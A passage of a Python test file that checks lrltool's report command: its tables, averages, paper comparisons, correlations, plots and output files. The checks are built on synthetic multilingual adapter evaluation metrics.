"""`lrltool report`: tables, deltas, averages, paper numbers, correlations, plots, files and bad input.

Every expected number is computed here from the synthetic records, independently of lrltool.report.
"""

from __future__ import annotations

import csv
import json
import math
import re
from pathlib import Path

import pytest

from lrltool.records import MetricRecord
from lrltool.report import Column, build_report, load_metric_records, render_markdown, report_metrics

MODEL = "xlm-roberta-base"
LLM = "models/tiny-llama"
# XLM-R pre-training GB from languages.tsv; None = not in XLM-R's pre-training data.
GB = {"ron_Latn": 83.29, "swh_Latn": 2.15, "jav_Latn": 0.20, "mlt_Latn": None, "bod_Tibt": None}
SEEN = ["ron_Latn", "swh_Latn", "jav_Latn"]
UNSEEN = ["mlt_Latn", "bod_Tibt"]
ALL = SEEN + UNSEEN

PPPL = {  # lang -> (method, source) -> pppl_mean; jav has no full/glotcc run
    "ron_Latn": {
        ("base", None): 3.10,
        ("seq_bn", "glotcc"): 2.80,
        ("seq_bn", "conceptnet"): 3.00,
        ("full", "glotcc"): 2.90,
    },
    "swh_Latn": {
        ("base", None): 12.0,
        ("seq_bn", "glotcc"): 6.0,
        ("seq_bn", "conceptnet"): 10.0,
        ("full", "glotcc"): 7.0,
    },
    "jav_Latn": {("base", None): 40.0, ("seq_bn", "glotcc"): 9.0, ("seq_bn", "conceptnet"): 30.0},
    "mlt_Latn": {
        ("base", None): 500.0,
        ("seq_bn", "glotcc"): 7.5,
        ("seq_bn", "conceptnet"): 120.0,
        ("full", "glotcc"): 20.0,
    },
    "bod_Tibt": {
        ("base", None): 80.0,
        ("seq_bn", "glotcc"): 11.0,
        ("seq_bn", "conceptnet"): 60.0,
        ("full", "glotcc"): 15.0,
    },
}
TC = {  # lang -> (method, source, task_method) -> macro-F1 for seeds 1, 2, 3
    "ron_Latn": {
        ("base", None, "adapter"): [0.80, 0.82, 0.84],
        ("base", None, "full"): [0.81, 0.80, 0.79],
        ("seq_bn", "glotcc", "adapter"): [0.85, 0.86, 0.90],
    },
    "swh_Latn": {
        ("base", None, "adapter"): [0.60, 0.64, 0.65],
        ("base", None, "full"): [0.61, 0.66, 0.62],
        ("seq_bn", "glotcc", "adapter"): [0.70, 0.72, 0.71],
    },
    "jav_Latn": {
        ("base", None, "adapter"): [0.50, 0.52, 0.51],
        ("base", None, "full"): [0.55, 0.50, 0.52],
        ("seq_bn", "glotcc", "adapter"): [0.58, 0.60, 0.65],
    },
    "mlt_Latn": {
        ("base", None, "adapter"): [0.40, 0.45, 0.44],
        ("base", None, "full"): [0.42, 0.43, 0.41],
        ("seq_bn", "glotcc", "adapter"): [0.55, 0.57, 0.56],
    },
    "bod_Tibt": {
        ("base", None, "adapter"): [0.30, 0.33, 0.31],
        ("base", None, "full"): [0.32, 0.30, 0.35],
        ("seq_bn", "glotcc", "adapter"): [0.42, 0.47, 0.40],
    },
}
# NER: seq_bn/glotcc comes as an aggregate record only (mean 0.70, sd 0.02 over seeds 1-3).
NER_BASE = {lang: [0.60 + i * 0.01, 0.62 + i * 0.01, 0.61 + i * 0.01] for i, lang in enumerate(ALL)}
NER_AGG = {lang: (0.70 + i * 0.01, 0.02) for i, lang in enumerate(ALL)}
PROMPT = {"ron_Latn": 0.30, "mlt_Latn": 0.20}  # tiny LLaMA 0-shot, one run each


def metric_record(**fields):
    return MetricRecord(**fields).to_json()


def mean(values):
    return sum(values) / len(values)


def sd(values):
    m = mean(values)
    return math.sqrt(sum((v - m) ** 2 for v in values) / (len(values) - 1))


def records(*, pppl_settings=None) -> list[dict]:
    out = []
    for lang, cells in PPPL.items():
        for (method, source), value in cells.items():
            settings = {
                "variant": "original",
                "paper_compat": False,
                "max_length": 512,
                "data_hash": f"flores-{lang}",
            }
            settings.update((pppl_settings or {}).get((lang, method, source), {}))
            out.append(
                metric_record(
                    metric="pppl_mean",
                    value=value,
                    lang=lang,
                    model=MODEL,
                    task="mlm",
                    method=method,
                    source=source,
                    adapter=None if method == "base" else f"runs/{lang}/{method}-{source}",
                    n=1012,
                    details={"tokens": 30000},
                    settings=settings,
                )
            )
            # Another PPPL metric of the same run: read, but not tabulated by default.
            out.append(
                metric_record(
                    metric="pppl",
                    value=value * 1.1,
                    lang=lang,
                    model=MODEL,
                    task="mlm",
                    method=method,
                    source=source,
                    n=1012,
                )
            )
    for lang, cells in TC.items():
        for (method, source, task_method), values in cells.items():
            for seed, value in enumerate(values, 1):
                out.append(
                    metric_record(
                        metric="macro_f1",
                        value=value,
                        lang=lang,
                        model=MODEL,
                        task="tc",
                        method=method,
                        source=source,
                        task_method=task_method,
                        seed=seed,
                        n=204,
                        settings={"max_length": 256, "data_hash": f"sib-{lang}"},
                    )
                )
    for lang in ALL:
        for seed, value in enumerate(NER_BASE[lang], 1):
            out.append(
                metric_record(
                    metric="f1",
                    value=value,
                    lang=lang,
                    model=MODEL,
                    task="ner",
                    task_method="adapter",
                    seed=seed,
                    n=1000,
                )
            )
        agg_mean, agg_sd = NER_AGG[lang]
        out.append(
            metric_record(
                metric="f1",
                value=agg_mean,
                lang=lang,
                model=MODEL,
                task="ner",
                method="seq_bn",
                source="glotcc",
                task_method="adapter",
                aggregate="mean",
                n=1000,
                details={"sd": agg_sd, "seeds": [1, 2, 3]},
            )
        )
    for lang, value in PROMPT.items():
        out.append(
            metric_record(
                metric="macro_f1",
                value=value,
                lang=lang,
                model=LLM,
                task="tc",
                method="prompt",
                task_method="prompt-0shot",
                n=204,
                settings={"data_hash": f"sib-{lang}"},
            )
        )
    return out


def write_jsonl(path: Path, recs) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in recs), encoding="utf-8")
    return path


@pytest.fixture
def metrics_file(tmp_path) -> Path:
    return write_jsonl(tmp_path / "metrics.jsonl", records())


def table_of(report, task):
    (table,) = [t for t in report.tables if t.task == task]
    return table


# ---------------------------------------------------------------------------------------------------
# Tables


def test_pppl_table_cells_deltas_and_seen_unseen_averages(metrics_file):
    report = report_metrics(inputs=[str(metrics_file)])
    table = table_of(report, "mlm")
    assert table.metric == "pppl_mean" and table.model == MODEL
    assert table.langs == ALL  # the registry's order: by pre-training size, unseen last
    assert [c.label for c in table.columns] == ["base", "seq_bn/glotcc", "seq_bn/conceptnet", "full/glotcc"]
    for lang, cells in PPPL.items():
        base = cells[("base", None)]
        for (method, source), value in cells.items():
            cell = table.cells[(lang, Column(method, source))]
            assert cell.mean == value
            if method == "base":
                assert cell.delta is None
            else:
                assert cell.delta == pytest.approx(value - base, abs=1e-12)
    assert set(table.groups) == {"seen", "unseen", "all"}
    assert table.groups["seen"] == SEEN and table.groups["unseen"] == UNSEEN
    for group, langs in {"seen": SEEN, "unseen": UNSEEN, "all": ALL}.items():
        for key in [("seq_bn", "glotcc"), ("full", "glotcc")]:
            have = [lang for lang in langs if key in PPPL[lang]]
            average = table.averages[(group, Column(*key))]
            assert average.mean == pytest.approx(mean([PPPL[lang][key] for lang in have]), rel=1e-12)
            assert average.delta == pytest.approx(
                mean([PPPL[lang][key] - PPPL[lang][("base", None)] for lang in have]), rel=1e-12
            )
            assert (average.n_langs, average.of) == (len(have), len(langs))
    # jav has no full/glotcc: the seen average of that column covers 2 of 3 languages, and says so.
    from lrltool.report import cell_text

    seen_full = table.averages[("seen", Column("full", "glotcc"))]
    assert cell_text(table, "avg:seen", Column("full", "glotcc")) == (
        f"{seen_full.mean:.2f} ({seen_full.delta:+.2f}) [2/3 langs]"
    )
    assert cell_text(table, "mlt_Latn", Column("seq_bn", "glotcc")) == "7.50 (-492.50)"


def test_task_table_mean_sd_over_seeds_and_change_against_the_baseline(metrics_file):
    report = report_metrics(inputs=[str(metrics_file)])
    table = table_of(report, "tc")
    assert table.metric == "macro_f1"
    assert table.baseline == Column("base", None, "adapter")
    labels = [c.label for c in table.columns]
    assert labels == ["base", "base [full FT]", "seq_bn/glotcc", "tiny-llama prompt-0shot"]
    for lang, cells in TC.items():
        base = mean(cells[("base", None, "adapter")])
        for (method, source, task_method), values in cells.items():
            cell = table.cells[(lang, Column(method, source, task_method))]
            assert cell.mean == pytest.approx(mean(values), rel=1e-12)
            assert cell.sd == pytest.approx(sd(values), rel=1e-12)
            assert cell.seeds == (1, 2, 3)
            if method != "base" or task_method != "adapter":
                assert cell.delta == pytest.approx(mean(values) - base, abs=1e-12)
    # Prompting rows of another model stand beside the adapters, compared with this table's baseline.
    prompt = table.cells[("mlt_Latn", Column("prompt", None, "prompt-0shot", model=LLM))]
    assert prompt.mean == 0.20 and prompt.sd is None
    assert prompt.delta == pytest.approx(0.20 - mean(TC["mlt_Latn"][("base", None, "adapter")]), abs=1e-12)
    # Averages of the seq_bn column: mean of per-language means; delta: mean of per-language changes.
    column = Column("seq_bn", "glotcc", "adapter")
    for group, langs in {"seen": SEEN, "unseen": UNSEEN, "all": ALL}.items():
        average = table.averages[(group, column)]
        assert average.mean == pytest.approx(
            mean([mean(TC[lang][column_key(column)]) for lang in langs]), rel=1e-12
        )
        expected_delta = mean(
            [mean(TC[lang][column_key(column)]) - mean(TC[lang][("base", None, "adapter")]) for lang in langs]
        )
        assert average.delta == pytest.approx(expected_delta, rel=1e-12)
    from lrltool.report import cell_text

    values = TC["ron_Latn"][("seq_bn", "glotcc", "adapter")]
    delta = mean(values) - mean(TC["ron_Latn"][("base", None, "adapter")])
    assert (
        cell_text(table, "ron_Latn", column)
        == f"{100 * mean(values):.2f} ± {100 * sd(values):.2f} ({100 * delta:+.2f})"
    )
    assert cell_text(table, "ron_Latn", column) == "87.00 ± 2.65 (+5.00)"


def column_key(column: Column):
    return (column.method, column.source, column.task_method)


def test_aggregate_records_are_used_when_present(metrics_file):
    report = report_metrics(inputs=[str(metrics_file)])
    table = table_of(report, "ner")
    assert table.metric == "f1"
    for lang in ALL:
        cell = table.cells[(lang, Column("seq_bn", "glotcc", "adapter"))]
        assert cell.from_aggregate
        assert (cell.mean, cell.sd, cell.seeds) == (NER_AGG[lang][0], NER_AGG[lang][1], (1, 2, 3))
        assert cell.delta == pytest.approx(NER_AGG[lang][0] - mean(NER_BASE[lang]), abs=1e-12)
        base = table.cells[(lang, Column("base", None, "adapter"))]
        assert base.mean == pytest.approx(mean(NER_BASE[lang]), rel=1e-12)


def test_aggregate_that_disagrees_with_its_seeds_is_flagged(tmp_path):
    recs = [
        metric_record(
            metric="f1", value=v, lang="ron", model=MODEL, task="ner", task_method="adapter", seed=s, n=10
        )
        for s, v in [(1, 0.5), (2, 0.7)]
    ]
    recs.append(
        metric_record(
            metric="f1",
            value=0.9,
            lang="ron",
            model=MODEL,
            task="ner",
            task_method="adapter",
            aggregate="mean",
            n=10,
            details={"sd": 0.1, "seeds": [1, 2]},
        )
    )
    report = report_metrics(inputs=[str(write_jsonl(tmp_path / "m.jsonl", recs))])
    cell = table_of(report, "ner").cells[("ron_Latn", Column("base", None, "adapter"))]
    assert cell.mean == 0.9
    assert any("says 0.9 but its per-seed records average 0.6" in w for w in report.warnings)


def test_rerun_records_last_one_wins_with_a_warning(tmp_path):
    first = metric_record(metric="pppl_mean", value=9.0, lang="ron_Latn", model=MODEL, task="mlm", n=5)
    second = metric_record(metric="pppl_mean", value=8.0, lang="ro", model=MODEL, task="mlm", n=5)
    path = write_jsonl(tmp_path / "m.jsonl", [first, second])
    report = report_metrics(inputs=[str(path)])
    assert table_of(report, "mlm").cells[("ron_Latn", Column("base"))].mean == 8.0
    assert report.warnings == [
        f"Pseudo-perplexity (pppl_mean), {MODEL}: 2 records for ron_Latn, base, run ({path}:1, {path}:2);"
        " the last one read is used"
    ]
    # A rerun with another setting replaces the first run: its settings are not compared any more.
    second["settings"] = {"variant": "within_word_l2r"}
    report = report_metrics(inputs=[str(write_jsonl(tmp_path / "m2.jsonl", [first, second]))])
    assert len(report.warnings) == 1 and "the last one read is used" in report.warnings[0]
    assert report.tables[0].entries[0].record["settings"] == {"variant": "within_word_l2r"}


def test_same_cell_from_different_adapter_folders_becomes_separate_columns(tmp_path):
    recs = [
        metric_record(
            metric="pppl_mean",
            value=v,
            lang="mlt",
            model=MODEL,
            task="mlm",
            method="seq_bn",
            source="glotcc",
            adapter=a,
            n=5,
        )
        for v, a in [(20.0, "runs/mlt/seq_bn-glotcc-10M"), (12.0, "runs/mlt/seq_bn-glotcc-100M/adapter")]
    ]
    report = report_metrics(inputs=[str(write_jsonl(tmp_path / "m.jsonl", recs))])
    table = table_of(report, "mlm")
    assert [c.label for c in table.columns] == [
        "seq_bn/glotcc @seq_bn-glotcc-100M",
        "seq_bn/glotcc @seq_bn-glotcc-10M",
    ]
    assert table.cells[("mlt_Latn", table.columns[0])].mean == 12.0
    assert report.warnings == [] and any("several adapter folders" in n for n in report.notes)


def test_prompting_rows_alone_and_beside_adapters_of_the_same_model(tmp_path):
    def prompt(model, lang, value, shots="prompt-0shot", method="prompt", source=None):
        return metric_record(
            metric="macro_f1",
            value=value,
            lang=lang,
            model=model,
            task="sa",
            method=method,
            source=source,
            task_method=shots,
            n=50,
        )

    alone = [prompt("llm-b", "ron", 0.5), prompt("llm-a", "ron", 0.4, "prompt-3shot")]
    report = report_metrics(inputs=[str(write_jsonl(tmp_path / "a.jsonl", alone))])
    (table,) = report.tables
    assert table.model == "llm-a"
    assert [c.label for c in table.columns] == ["prompt-3shot", "llm-b prompt-0shot"]
    assert table.cells[("ron_Latn", Column("prompt", None, "prompt-0shot", model="llm-b"))].mean == 0.5
    # A decoder with a language adapter, prompted, beside its own prompting without one.
    same = [
        metric_record(
            metric="macro_f1", value=0.6, lang="ron", model="llm-a", task="sa", task_method="adapter", n=50
        ),
        prompt("llm-a", "ron", 0.45),
        prompt("llm-a", "ron", 0.55, method="seq_bn", source="glotcc"),
    ]
    report = report_metrics(inputs=[str(write_jsonl(tmp_path / "b.jsonl", same))])
    (table,) = report.tables
    assert [c.label for c in table.columns] == ["base", "seq_bn/glotcc [prompt-0shot]", "prompt-0shot"]
    assert table.cells[("ron_Latn", Column("prompt", None, "prompt-0shot"))].delta == pytest.approx(
        0.45 - 0.6
    )


def test_unknown_model_family_has_no_seen_unseen_split(tmp_path):
    recs = [
        metric_record(metric="pppl_mean", value=v, lang=lang, model="models/tiny-enc", task="mlm", n=5)
        for lang, v in [("ron", 100.0), ("mlt", 300.0)]
    ]
    report = report_metrics(inputs=[str(write_jsonl(tmp_path / "m.jsonl", recs))])
    table = table_of(report, "mlm")
    assert list(table.groups) == ["all"]
    assert table.averages[("all", Column("base"))].mean == 200.0
    assert report.correlations == []
    from lrltool.report import gb_text

    assert gb_text(table, "ron_Latn") == "?"


# ---------------------------------------------------------------------------------------------------
# Traceability


def test_mixed_settings_are_warned(tmp_path, cli):
    recs = records(
        pppl_settings={
            ("ron_Latn", "seq_bn", "glotcc"): {"paper_compat": True},
            ("mlt_Latn", "full", "glotcc"): {"data_hash": "another-test-set"},
        }
    )
    path = write_jsonl(tmp_path / "m.jsonl", recs)
    result = cli(["report", path])
    assert result.exit_code == 0, result.stderr
    table_wide = (
        f"Pseudo-perplexity (pppl_mean), {MODEL}: records differ in 'paper_compat' (false in 18"
        " [base, full/glotcc, seq_bn/conceptnet and 1 more]; true in 1 [seq_bn/glotcc]);"
        " their numbers are not comparable"
    )
    per_language = (
        f"Pseudo-perplexity (pppl_mean), {MODEL}, mlt_Latn: records differ in 'data_hash'"
        " (flores-mlt_Latn in 3 [base, seq_bn/conceptnet, seq_bn/glotcc];"
        " another-test-set in 1 [full/glotcc]); they were not measured on the same test data"
    )
    assert f"warning: {table_wide}" in result.stderr
    assert f"warning: {per_language}" in result.stderr
    md = render_markdown(report_metrics(inputs=[str(path)]))
    assert "## Warnings" in md and table_wide in md and per_language in md
    # The settings behind each table are listed with counts.
    assert "- paper_compat: `false` (18), `true` (1)" in md
    assert "- lrltool version: `0.1.0` (19)" in md


def test_consistent_settings_give_no_warning(metrics_file):
    report = report_metrics(inputs=[str(metrics_file)])
    assert report.warnings == []
    n_pppl = sum(len(cells) for cells in PPPL.values())
    assert n_pppl == 19
    assert report.notes == [
        f"{n_pppl} records are not tabulated (pppl {n_pppl}); tables use pppl_mean for pseudo-perplexity and"
        " clm: ppl_mean, tc: macro_f1, sa: macro_f1, ner: f1."
    ]


# ---------------------------------------------------------------------------------------------------
# The paper's numbers


def test_shipped_paper_numbers_are_exactly_those_design_md_quotes():
    from lrltool.report import paper_citation, paper_numbers

    numbers = paper_numbers()
    got = {(n.model, n.lang, n.task, n.metric, n.method, n.source, n.value) for n in numbers}
    assert got == {
        ("mbert", "ron_Latn", "mlm", "pppl_mean", "base", None, 11.49),
        ("mbert", "ron_Latn", "mlm", "pppl_mean", "seq_bn", "glotcc", 5.94),
        ("xlmr", "ron_Latn", "mlm", "pppl_mean", "base", None, 2.97),
        ("mbert", "mlt_Latn", "mlm", "pppl_mean", "base", None, 531.59),
        ("mbert", "mlt_Latn", "mlm", "pppl_mean", None, None, 6.89),
        ("xlmr", None, "ner", "f1", "fusion", "glotcc+conceptnet", 78.93),
        ("xlmr", None, "ner", "f1", None, "glotcc", 76.16),
    }
    assert all(n.where.startswith("arXiv:2502.10140") for n in numbers)
    assert "arXiv:2502.10140" in paper_citation() and "Gurgurov" in paper_citation()


PAPER_PPPL = {"paper_compat": True}  # the paper's PPPL definition (eval --paper-compat)


def test_compare_paper_column_and_comparison(tmp_path, cli):
    mbert = "bert-base-multilingual-cased"
    recs = [
        metric_record(
            metric="pppl_mean", value=11.49, lang="ron", model=mbert, task="mlm", n=1012, settings=PAPER_PPPL
        ),
        metric_record(
            metric="pppl_mean",
            value=6.10,
            lang="ron",
            model=mbert,
            task="mlm",
            method="seq_bn",
            source="glotcc",
            n=1012,
            settings=PAPER_PPPL,
        ),
        metric_record(
            metric="pppl_mean", value=600.0, lang="mlt", model=mbert, task="mlm", n=1012, settings=PAPER_PPPL
        ),
        metric_record(
            metric="pppl_mean",
            value=7.25,
            lang="mlt",
            model=mbert,
            task="mlm",
            method="seq_bn_inv",
            source="glotcc",
            n=1012,
            settings=PAPER_PPPL,
        ),
        metric_record(
            metric="pppl_mean",
            value=9.0,
            lang="mlt",
            model=mbert,
            task="mlm",
            method="lora",
            source="conceptnet",
            n=1012,
            settings=PAPER_PPPL,
        ),
    ]
    path = write_jsonl(tmp_path / "m.jsonl", recs)
    report = report_metrics(inputs=[str(path)], compare_paper=True)
    got = {(c.number.lang, c.number.label): (c.ours, c.ours_label, c.difference) for c in report.comparisons}
    assert got[("ron_Latn", "base")] == (11.49, "same method: base", 0.0)
    assert got[("ron_Latn", "seq_bn/glotcc")][:2] == (6.10, "same method: seq_bn/glotcc")
    assert got[("ron_Latn", "seq_bn/glotcc")][2] == pytest.approx(6.10 - 5.94)
    assert got[("mlt_Latn", "base")][2] == pytest.approx(600.0 - 531.59)
    # Maltese's adapted number does not say which adapter: compared with our best (lowest PPPL) one.
    assert got[("mlt_Latn", "adapted")][:2] == (7.25, "our best: seq_bn_inv/glotcc")
    assert len(got) == 4  # the XLM-R and NER numbers match no table here

    result = cli(["report", path, "--compare-paper", "-o", tmp_path / "out"])
    assert result.exit_code == 0, result.stderr
    assert "base 11.49; seq_bn/glotcc 5.94" in result.stdout  # the paper column on the terminal
    md = (tmp_path / "out" / "report.md").read_text()
    assert (
        "| Romanian (ron_Latn) | 1.22 | 11.49 | 6.10 (-5.39) |  |  | base 11.49; seq_bn/glotcc 5.94 |" in md
    )
    assert "## Comparison with the paper" in md and "arXiv:2502.10140" in md
    rows = list(csv.DictReader((tmp_path / "out" / "results.csv").open()))
    paper = {(r["row"], r["column"]): r["paper"] for r in rows}
    assert paper[("ron_Latn", "seq_bn/glotcc")] == "5.94" and paper[("ron_Latn", "base")] == "11.49"
    assert paper[("mlt_Latn", "base")] == "531.59" and paper[("mlt_Latn", "seq_bn_inv/glotcc")] == ""


def test_paper_average_goes_to_the_average_row_in_percent(tmp_path):
    recs = [
        metric_record(
            metric="f1",
            value=v,
            lang="mlt",
            model=MODEL,
            task="ner",
            method=m,
            source=s,
            task_method="adapter",
            seed=1,
            n=10,
        )
        for m, s, v in [
            ("base", None, 0.70),
            ("fusion", "glotcc+conceptnet", 0.80),
            ("seq_bn", "glotcc", 0.75),
        ]
    ]
    report = report_metrics(inputs=[str(write_jsonl(tmp_path / "m.jsonl", recs))], compare_paper=True)
    table = table_of(report, "ner")
    assert [n.value for n in table.paper["avg:all"]] == [78.93, 76.16]
    got = {c.number.label: (c.ours, c.ours_langs) for c in report.comparisons}
    assert got["fusion/glotcc+conceptnet"] == (pytest.approx(80.0), 1)
    assert got["adapted/glotcc"] == (pytest.approx(75.0), 1)


# ---------------------------------------------------------------------------------------------------
# Correlation with pre-training data size


def test_correlations_match_scipy(metrics_file):
    from scipy import stats

    report = report_metrics(inputs=[str(metrics_file)])
    (corr,) = [c for c in report.correlations if c.table.task == "tc" and c.column.label == "seq_bn/glotcc"]
    gains = {
        lang: 100
        * (mean(TC[lang][("seq_bn", "glotcc", "adapter")]) - mean(TC[lang][("base", None, "adapter")]))
        for lang in ALL
    }
    assert [(lang, gb) for lang, gb, _ in corr.points] == [(lang, GB[lang]) for lang in ALL]
    assert [g for _, _, g in corr.points] == pytest.approx([gains[lang] for lang in ALL])
    rho = stats.spearmanr([GB[lang] or 0.0 for lang in ALL], [gains[lang] for lang in ALL]).statistic
    r = stats.pearsonr([math.log10(GB[lang]) for lang in SEEN], [gains[lang] for lang in SEEN]).statistic
    assert (corr.n_spearman, corr.n_pearson) == (5, 3)
    assert corr.spearman == pytest.approx(rho, abs=1e-12)
    assert corr.pearson == pytest.approx(r, abs=1e-12)
    # PPPL gain is the % reduction against the base model.
    (pppl,) = [
        c for c in report.correlations if c.table.task == "mlm" and c.column.label == "seq_bn/conceptnet"
    ]
    reduction = {
        lang: 100
        * (PPPL[lang][("base", None)] - PPPL[lang][("seq_bn", "conceptnet")])
        / PPPL[lang][("base", None)]
        for lang in ALL
    }
    assert [g for _, _, g in pppl.points] == pytest.approx([reduction[lang] for lang in ALL])
    rho = stats.spearmanr([GB[lang] or 0.0 for lang in ALL], [reduction[lang] for lang in ALL]).statistic
    assert pppl.spearman == pytest.approx(rho, abs=1e-12)


def test_spearman_with_ties_and_degenerate_input():
    from scipy import stats

    from lrltool.report import pearson, spearman

    xs, ys = [0.0, 0.0, 1.5, 2.0, 2.0, 9.0], [3.0, 1.0, 4.0, 1.0, 5.0, 9.0]
    assert spearman(xs, ys) == pytest.approx(stats.spearmanr(xs, ys).statistic, abs=1e-12)
    assert pearson(xs, ys) == pytest.approx(stats.pearsonr(xs, ys).statistic, abs=1e-12)
    assert spearman([1.0, 2.0], [1.0, 2.0]) is None  # fewer than 3 points
    assert pearson([1.0, 1.0, 1.0], [1.0, 2.0, 3.0]) is None  # no spread


# ---------------------------------------------------------------------------------------------------
# The command and its files


def assert_png(path: Path, min_size=(400, 300)) -> None:
    from PIL import Image

    assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    with Image.open(path) as image:
        image.verify()
    with Image.open(path) as image:
        assert image.format == "PNG"
        assert image.size[0] >= min_size[0] and image.size[1] >= min_size[1]
        # Not a blank canvas: a readable plot has many colours.
        assert len(image.convert("RGB").getcolors(maxcolors=1 << 20) or []) > 20


def test_cli_writes_report_md_csv_and_plots(metrics_file, tmp_path, cli):
    out = tmp_path / "report"
    result = cli(["report", metrics_file, "-o", out])
    assert result.exit_code == 0, result.stderr
    assert f"report written to {out / 'report.md'}" in result.stderr
    n_in = len(records())
    n_out = n_in - sum(len(cells) for cells in PPPL.values())  # the 'pppl' records are not tabulated
    assert (n_in, n_out) == (105, 86)
    assert f"report: {n_in} in, {n_out} out; tables 3; plots 4" in result.stderr
    # The terminal table on stdout.
    assert f"Topic classification (SIB-200): macro_f1 (%), {MODEL}" in result.stdout
    assert "87.00 ± 2.65 (+5.00)" in result.stdout
    assert sorted(p.name for p in out.iterdir()) == ["plots", "report.md", "results.csv"]
    plots = sorted(p.name for p in (out / "plots").iterdir())
    assert plots == [
        "f1_xlm-roberta-base_ner.png",
        "f1_xlm-roberta-base_tc.png",
        "gain_vs_pretraining_xlm-roberta-base.png",
        "pppl_xlm-roberta-base.png",
    ]
    for name in plots:
        assert_png(out / "plots" / name)
    md = (out / "report.md").read_text()
    for name in plots:
        assert f"(plots/{name})" in md
    assert (
        "| Romanian (ron_Latn) | 83.29 | 82.00 ± 2.00 | 80.00 ± 1.00 (-2.00) | 87.00 ± 2.65 (+5.00)"
        " | 30.00 (-52.00) [n=1] |" in md
    )
    assert "| Maltese (mlt_Latn) | - | 500.00 | 7.50 (-492.50) | 120.00 (-380.00) | 20.00 (-480.00) |" in md
    assert "| **average, unseen (2)** |" in md and "| **average, seen (3)** |" in md

    rows = list(csv.DictReader((out / "results.csv").open(encoding="utf-8")))
    by_key = {(r["table"], r["row"], r["column"]): r for r in rows}
    row = by_key[("xlm-roberta-base_tc", "swh_Latn", "seq_bn/glotcc")]
    values = TC["swh_Latn"][("seq_bn", "glotcc", "adapter")]
    base = mean(TC["swh_Latn"][("base", None, "adapter")])
    assert float(row["value"]) == pytest.approx(mean(values), rel=1e-12)
    assert float(row["sd"]) == pytest.approx(sd(values), rel=1e-12)
    assert float(row["baseline"]) == pytest.approx(base, rel=1e-12)
    assert float(row["delta"]) == pytest.approx(mean(values) - base, abs=1e-12)
    assert (row["n_seeds"], row["seeds"], row["group"], row["pretraining_gb"], row["unit"]) == (
        "3",
        "1 2 3",
        "seen",
        "2.15",
        "fraction",
    )
    avg = by_key[("xlm-roberta-base", "avg:unseen", "seq_bn/glotcc")]
    assert float(avg["value"]) == pytest.approx(mean([7.5, 11.0]))
    assert float(avg["delta"]) == pytest.approx(mean([7.5 - 500.0, 11.0 - 80.0]))
    assert avg["n_langs"] == "2"
    # One row per table cell: languages x columns present, plus the averages.
    pppl_rows = [r for r in rows if r["table"] == "xlm-roberta-base"]
    assert len(pppl_rows) == sum(len(c) for c in PPPL.values()) + 3 * 4


def test_gain_against_adaptation_data_size(tmp_path, cli):
    from scipy import stats

    recs = [metric_record(metric="pppl_mean", value=500.0, lang="mlt", model=MODEL, task="mlm", n=1012)]
    recs.append(
        metric_record(
            metric="macro_f1",
            value=0.40,
            lang="mlt",
            model=MODEL,
            task="tc",
            task_method="adapter",
            seed=1,
            n=9,
        )
    )
    pppl = {1e6: 40.0, 1e7: 20.0, 1e8: 25.0, 1e9: 10.0}
    tc = {1e6: 0.45, 1e7: 0.44, 1e8: 0.50, 1e9: 0.52}
    for size in pppl:
        run = tmp_path / "runs" / f"seq_bn-glotcc-{size:.0e}"
        run.mkdir(parents=True)
        (run / "training.json").write_text(
            json.dumps({"method": "seq_bn", "data": {"hash": "x", "bytes": size, "tokens": size / 4}})
        )
        common = dict(lang="mlt", model=MODEL, method="seq_bn", source="glotcc", adapter=str(run), n=1012)
        recs.append(metric_record(metric="pppl_mean", value=pppl[size], task="mlm", **common))
        recs.append(
            metric_record(
                metric="macro_f1", value=tc[size], task="tc", task_method="adapter", seed=1, **common
            )
        )
    path = write_jsonl(tmp_path / "m.jsonl", recs)
    report = report_metrics(inputs=[str(path)], output_dir=tmp_path / "out")
    mlm, task = report.sizes
    assert (mlm.table.task, mlm.column, mlm.lang, mlm.unit) == (
        "mlm",
        Column("seq_bn", "glotcc"),
        "mlt_Latn",
        "bytes",
    )
    sizes = sorted(pppl)
    reduction = [100 * (500.0 - pppl[x]) / 500.0 for x in sizes]
    assert mlm.points == [(x, pppl[x], pytest.approx(r)) for x, r in zip(sizes, reduction, strict=True)]
    f1_gain = [100 * (tc[x] - 0.40) for x in sizes]
    assert [p[2] for p in task.points] == pytest.approx(f1_gain)
    by_task = {c.table.task: c for c in report.size_correlations}
    assert by_task["mlm"].n == 4
    assert by_task["mlm"].spearman == pytest.approx(stats.spearmanr(sizes, reduction).statistic, abs=1e-12)
    assert by_task["mlm"].pearson == pytest.approx(
        stats.pearsonr([math.log10(x) for x in sizes], reduction).statistic, abs=1e-12
    )
    assert by_task["tc"].spearman == pytest.approx(stats.spearmanr(sizes, f1_gain).statistic, abs=1e-12)
    assert_png(tmp_path / "out" / "plots" / "adaptation_size_xlm-roberta-base.png")
    md = (tmp_path / "out" / "report.md").read_text()
    assert "## Against adaptation data size" in md and "(plots/adaptation_size_xlm-roberta-base.png)" in md
    # Without bytes in every training.json, sizes are in tokens.
    (tmp_path / "runs" / "seq_bn-glotcc-1e+06" / "training.json").write_text(
        json.dumps({"data": {"tokens": 2.5e5}})
    )
    report = report_metrics(inputs=[str(path)])
    assert report.sizes[0].unit == "tokens" and report.sizes[0].points[0][0] == 2.5e5


def test_stdin_and_globs(tmp_path, cli):
    recs = records()
    write_jsonl(tmp_path / "a.jsonl", recs[:60])
    write_jsonl(tmp_path / "b.jsonl", recs[60:])
    from_glob = cli(["report", str(tmp_path / "*.jsonl")])
    from_stdin = cli(["report", "-"], input="".join(json.dumps(r) + "\n" for r in recs))
    from_default = cli(["report"], input="".join(json.dumps(r) + "\n" for r in recs))
    assert from_glob.exit_code == from_stdin.exit_code == from_default.exit_code == 0
    assert from_glob.stdout == from_stdin.stdout == from_default.stdout
    assert "87.00 ± 2.65 (+5.00)" in from_glob.stdout


def test_shell_pipeline(small_metrics_file, tmp_path):
    metrics_file = small_metrics_file
    import subprocess
    import sys

    out = tmp_path / "out"
    result = subprocess.run(
        [
            "bash",
            "-o",
            "pipefail",
            "-c",
            f"cat '{metrics_file}' | '{sys.executable}' -m lrltool report -o '{out}' | head -n 1",
        ],
        capture_output=True,
        text=True,
    )
    assert result.returncode in (0, 141), result.stderr  # 141: head closed the pipe first, quietly
    assert result.stdout.startswith(f"Pseudo-perplexity (pppl_mean), {MODEL}")
    assert "Traceback" not in result.stderr
    assert (out / "report.md").is_file()


def test_loss_curves_from_run_folders(tmp_path, cli):
